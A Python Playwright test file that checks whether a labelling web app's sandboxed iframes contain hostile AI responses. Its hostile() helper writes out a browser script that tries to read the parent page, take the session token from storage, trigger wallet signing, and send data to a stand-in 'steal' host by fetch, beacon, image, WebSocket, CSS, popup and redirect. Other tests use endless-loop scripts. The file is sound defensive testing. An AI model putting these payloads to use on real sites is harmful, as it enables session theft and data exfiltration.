"""A hostile response cannot reach the page, its storage, the wallet or the network, and one that never yields
(an endless loop) does not freeze the page: it stays usable."""

from __future__ import annotations

import json
from typing import Any

import pytest
from playwright.sync_api import TimeoutError as PlaywrightTimeoutError
from playwright.sync_api import expect
from tests.e2e.flows import add_key, score_with_keyboard, sign_in
from tests.e2e.support import CountingServer, Miner, PageWallet, WorkerApi, shot, simple_response

pytestmark = pytest.mark.browser


def hostile(api: str, other: str) -> str:
    """A response that tries everything it should not be able to do, and writes what it got into its own page."""
    script = (
        """
const out = {};
const tryIt = async (name, fn) => { try { out[name] = 'GOT ' + String(await fn()).slice(0, 80); }
                                    catch (e) { out[name] = 'blocked: ' + (e && e.name); } };
(async () => {
  await tryIt('parent_document', () => parent.document.body.innerHTML);
  await tryIt('top_storage', () => top.localStorage.getItem('dojo.session'));
  await tryIt('cookie', () => document.cookie = 'stolen=1');
  await tryIt('local_storage', () => localStorage.getItem('dojo.session'));
  await tryIt('session_storage', () => sessionStorage.length);
  await tryIt('indexed_db', () => indexedDB.open('x') && 'opened');
  await tryIt('fetch_api', () => fetch('API/api/v1/worker/partners').then(r => r.status));
  await tryIt('fetch_other', () => fetch('OTHER/steal?via=fetch', {mode: 'no-cors'}).then(r => r.type));
  await tryIt('beacon', () => navigator.sendBeacon('OTHER/steal?via=beacon', 'x') ? 'queued' : 'refused');
  await tryIt('image', () => new Promise((ok, bad) => { const i = new Image(); i.onload = () => ok('loaded');
                                          i.onerror = () => bad({name: 'ImageError'}); i.src = 'OTHER/steal?via=img'; }));
  await tryIt('websocket', () => new Promise((ok, bad) => { const w = new WebSocket('WS/steal');
                                          w.onopen = () => ok('open'); w.onerror = () => bad({name: 'WsError'}); }));
  await tryIt('wallet', () => window.ethereum.request({method: 'personal_sign', params: ['0x6869', '0x0']}));
  await tryIt('popup', () => { const w = window.open('OTHER/steal?via=popup'); if (!w) throw {name: 'NoPopup'}; return 'opened'; });
  await tryIt('top_navigation', () => { top.location.href = 'OTHER/steal?via=top'; return 'navigated'; });
  await tryIt('alert', () => { alert('hi'); return 'shown'; });
  document.getElementById('out').textContent = JSON.stringify(out);
  document.body.dataset.done = '1';
})();
""".replace("OTHER", other)
        .replace("API", api)
        .replace("WS", other.replace("http", "ws"))
    )
    return (
        f"<!doctype html><html><head><link rel=stylesheet href='{other}/steal?via=css'></head><body>"
        f"<h3>Totally normal answer</h3><img src='{other}/steal?via=tag'><pre id=out>running</pre>"
        f"<script>{script}</script></body></html>"
    )


def test_hostile_response_gets_nothing_and_page_stays_usable(
    page, wallet: PageWallet, worker_api: WorkerApi, miner: Miner, counter: CountingServer
) -> None:
    base = worker_api.url
    sub_key = miner.new_key("subscription-keys")
    contents = [hostile(base, counter.url)] + [simple_response(f"Fine {i}", "#eef") for i in range(3)]
    task_id, cids = miner.create_task(contents, prompt="A task with one hostile answer", expire_in_s=1200)
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    sign_in(page, base)
    add_key(page, "Alice", sub_key)
    page.goto(f"{base}/#/task/{task_id}")

    frame = page.frame_locator("iframe.response-frame").nth(0)
    expect(frame.locator("body")).to_have_attribute("data-done", "1", timeout=15_000)
    got = json.loads(frame.locator("#out").text_content())
    assert set(got) >= {"parent_document", "cookie", "local_storage", "fetch_api", "fetch_other", "wallet"}
    # alert() returns silently in a sandbox without allow-modals, and sendBeacon only queues: both are judged
    # by their effect (no dialog, no request), below
    leaked = {k: v for k, v in got.items() if v.startswith("GOT") and k not in ("beacon", "alert")}
    assert leaked == {}, f"the hostile response got through: {leaked}"
    assert got["parent_document"] == "blocked: SecurityError"
    assert got["local_storage"] == "blocked: SecurityError" and got["cookie"] == "blocked: SecurityError"
    # the test wallet is injected into frames too (unlike real wallets) but answers the main frame only;
    # whether the frame saw it or not, nothing was signed apart from the sign-in
    assert got["wallet"].startswith("blocked") and set(wallet.refused) <= {"personal_sign"}
    assert len(wallet.signed) == 1 and "wants you to sign in" in wallet.signed[0]
    assert counter.count == 0, f"{counter.count} request(s) left the sandbox"
    assert dialogs == []
    assert page.url == f"{base}/#/task/{task_id}"  # no top navigation
    assert len(page.context.pages) == 1  # no popup

    # the page still works: another response's button answers, and scoring is by keyboard
    page.frame_locator("iframe.response-frame").nth(2).locator("#b").click()
    expect(page.frame_locator("iframe.response-frame").nth(2).locator("#b")).to_have_text("clicks: 1")
    score_with_keyboard(page, [2, 9, 5, 6])
    page.keyboard.press("Enter")
    expect(page).not_to_have_url(f"{base}/#/task/{task_id}")
    assert [r["labeller_id"] for r in miner.results(task_id)] == [wallet.account.address]
    assert counter.count == 0
    assert set(miner.results(task_id)[0]["scores"]) == set(cids)


def card(page: Any, letter: str) -> Any:
    """The response card headed "Response <letter>"."""
    return page.locator(".response", has=page.get_by_role("heading", name=f"Response {letter}", exact=True))


def test_endless_loop_in_a_response_does_not_freeze_the_page(page, worker_api: WorkerApi, miner: Miner) -> None:
    base = worker_api.url
    sub_key = miner.new_key("subscription-keys")
    spinner = "<!doctype html><html><body><p>thinking forever</p><script>for (;;) {}</script></body></html>"
    task_id, cids = miner.create_task(
        [spinner] + [simple_response(f"Fine {i}", "#eef") for i in range(3)], prompt="One answer never yields"
    )
    sign_in(page, base)
    add_key(page, "Alice", sub_key)
    page.goto(f"{base}/#/task/{task_id}")
    # the stuck frame never finishes loading: it is named, stopped, and the others load after it
    expect(card(page, "A").locator(".frame-stuck")).to_contain_text(
        "Response A stopped responding — it seems to be stuck in an endless loop"
    )
    expect(page.get_by_role("button", name="Use Response A with the keyboard")).to_be_disabled()
    expect(page.get_by_role("button", name="Run Response A again")).to_be_visible()
    expect(page.locator("iframe.response-frame")).to_have_count(3)
    card(page, "C").frame_locator("iframe").locator("#b").click()
    expect(card(page, "C").frame_locator("iframe").locator("#b")).to_have_text("clicks: 1")
    expect(page.get_by_role("button", name="Use Response B with the keyboard")).to_be_enabled()
    score_with_keyboard(page, [1, 8, 8, 9])  # the page's own controls keep answering, Tab is not swallowed
    shot(page, "state-stuck-response-desktop")
    page.keyboard.press("Enter")
    expect(page).not_to_have_url(f"{base}/#/task/{task_id}")
    assert miner.results(task_id)[0]["scores"] == dict(zip(cids, [1.0, 8.0, 8.0, 9.0], strict=True))


def test_a_response_that_loops_later_is_named_and_the_others_keep_working(
    page, worker_api: WorkerApi, miner: Miner
) -> None:
    """The issue's case: B loops a second after loading; A is a static paragraph. Only B is stopped."""
    base = worker_api.url
    sub_key = miner.new_key("subscription-keys")
    later = "<!doctype html><p>B starts fine</p><script>setTimeout(() => { for (;;) {} }, 1000)</script>"
    task_id, _ = miner.create_task(
        ["<!doctype html><p>A static paragraph</p>", later, simple_response("C", "#efe")], prompt="B loops later"
    )
    sign_in(page, base)
    add_key(page, "Alice", sub_key)
    page.goto(f"{base}/#/task/{task_id}")
    expect(card(page, "B").locator(".frame-stuck")).to_contain_text("Response B stopped responding", timeout=15_000)
    for letter in "AC":
        expect(card(page, letter).locator(".frame-stuck")).to_be_hidden()
        expect(card(page, letter).locator(".frame-note")).to_have_text("Reloaded because Response B froze it.")
    # A and C run again (in a fresh renderer) and answer
    expect(card(page, "A").frame_locator("iframe").locator("p")).to_have_text("A static paragraph")
    card(page, "C").frame_locator("iframe").locator("#b").click()
    expect(card(page, "C").frame_locator("iframe").locator("#b")).to_have_text("clicks: 1")
    expect(page.get_by_role("button", name="Use Response C with the keyboard")).to_be_enabled()
    # B can be run again, and is stopped again
    page.get_by_role("button", name="Run Response B again").click()
    expect(card(page, "B").locator(".frame-stuck")).to_be_hidden()
    expect(card(page, "B").locator(".frame-stuck")).to_be_visible(timeout=20_000)
    expect(card(page, "C").frame_locator("iframe").locator("#b")).to_have_text("clicks: 0", timeout=15_000)


def test_a_response_that_loops_on_a_click_is_named(page, worker_api: WorkerApi, miner: Miner) -> None:
    base = worker_api.url
    sub_key = miner.new_key("subscription-keys")
    clicky = '<!doctype html><button id=go onclick="for (;;) {}">Go</button>'
    task_id, _ = miner.create_task(
        [simple_response("A", "#eef"), simple_response("B", "#efe"), clicky], prompt="C loops on a click"
    )
    sign_in(page, base)
    add_key(page, "Alice", sub_key)
    page.goto(f"{base}/#/task/{task_id}")
    go = card(page, "C").frame_locator("iframe").locator("#go")
    expect(go).to_be_visible()
    with pytest.raises(PlaywrightTimeoutError):  # the click's handler never returns, so neither does the click
        go.dispatch_event("click", timeout=3000)
    expect(card(page, "C").locator(".frame-stuck")).to_contain_text("Response C stopped responding", timeout=15_000)
    expect(card(page, "A").locator(".frame-note")).to_have_text("Reloaded because Response C froze it.")
    card(page, "A").frame_locator("iframe").locator("#b").click()
    expect(card(page, "A").frame_locator("iframe").locator("#b")).to_have_text("clicks: 1")
